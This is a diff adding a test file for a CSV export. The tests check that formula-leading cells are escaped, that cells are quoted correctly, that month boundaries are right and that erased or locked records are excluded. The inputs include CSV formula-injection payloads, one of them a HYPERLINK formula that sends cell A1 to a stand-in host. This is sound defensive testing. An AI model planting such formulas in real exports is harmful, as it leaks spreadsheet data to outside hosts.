@@ -1,0 +1,66 @@
+import { afterAll, expect, test } from 'vitest';
+import { csvCell } from '#desk/keeping/csv.ts';
+import { exportRequests, spanOf } from '#desk/keeping/export.ts';
+import { eraseStatements, lockStatements } from '#embedded-backend/requests/erase-request.ts';
+import { endDatabases } from '#tests/databases.ts';
+import { aFriday, day, keepingBench } from '#tests/desk/keeping-bench.ts';
+
+afterAll(endDatabases);
+
+const formulas = ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '＝1', '＋1', '－1', '＠x', '=HYPERLINK("http://x.test?"&A1)'];
+
+test.each(formulas)('a cell that begins with a formula is defused: %j', (text) => {
+  expect(csvCell(text)).toBe(`"'${text.replaceAll('"', '""')}"`);
+});
+
+test('a cell keeps its marks and lines', () => {
+  expect([csvCell('a "b", c\nd'), csvCell(null), csvCell(3), csvCell('2 - 1 = 1')]).toEqual([
+    '"a ""b"", c\nd"',
+    '""',
+    '"3"',
+    '"2 - 1 = 1"',
+  ]);
+});
+
+async function piecesOf(stream: ReadableStream<Uint8Array>): Promise<ReadonlyArray<string>> {
+  const pieces: string[] = [];
+  const decoder = new TextDecoder('utf-8', { ignoreBOM: true });
+  for await (const piece of stream) pieces.push(decoder.decode(piece));
+  return pieces;
+}
+
+test('the file comes in pieces and holds every request once', async () => {
+  const bench = await keepingBench();
+  for (let at = 0; at < 50; at += 1) await bench.put({ name: `=N${at}.`, at: aFriday + Math.floor(at / 30), reference: `GI-${at}` });
+  const pieces = await piecesOf(exportRequests(bench.requests, bench.ring, 'all', 20));
+  expect(pieces.length).toBe(4);
+  expect(pieces[0]?.startsWith('\uFEFF"Reference","Kind","Received"')).toBe(true);
+  const text = pieces.join('');
+  expect(text.split('\r\n').length).toBe(52);
+  for (let at = 0; at < 50; at += 1) expect(text.split(`"'=N${at}."`).length).toBe(2);
+});
+
+test('a month begins and ends on the practice’s clock', async () => {
+  expect(spanOf('2026-12')).toEqual({ from: Date.parse('2026-12-01T00:00+05:30'), to: Date.parse('2027-01-01T00:00+05:30') });
+  const bench = await keepingBench();
+  for (const [name, at] of [
+    ['Before', '2026-10-31T23:59'],
+    ['First', '2026-11-01T00:00'],
+    ['Last', '2026-11-30T23:59'],
+    ['After', '2026-12-01T00:00'],
+  ] as const)
+    await bench.put({ name, at: Date.parse(`${at}+05:30`) });
+  const text = (await piecesOf(exportRequests(bench.requests, bench.ring, '2026-11'))).join('');
+  expect(['Before', 'First', 'Last', 'After'].filter((name) => text.includes(`"${name}"`))).toEqual(['First', 'Last']);
+});
+
+test('nobody who was erased or locked is in the file', async () => {
+  const bench = await keepingBench();
+  await bench.put({ name: 'Stays', reference: 'GI-AAAA-22' });
+  await bench.put({ name: 'Locked', reference: 'GI-AAAA-23' });
+  await bench.put({ name: 'Erased', reference: 'GI-AAAA-24' });
+  await bench.requests.batch(lockStatements(bench.requests, { where: 'reference = ?1', bind: ['GI-AAAA-23'] }, aFriday + day));
+  await bench.requests.batch(eraseStatements(bench.requests, { where: 'reference = ?1', bind: ['GI-AAAA-24'] }));
+  const text = (await piecesOf(exportRequests(bench.requests, bench.ring, 'all'))).join('');
+  expect(['Stays', 'Locked', 'Erased', 'GI-AAAA-23', 'GI-AAAA-24'].filter((each) => text.includes(each))).toEqual(['Stays']);
+});
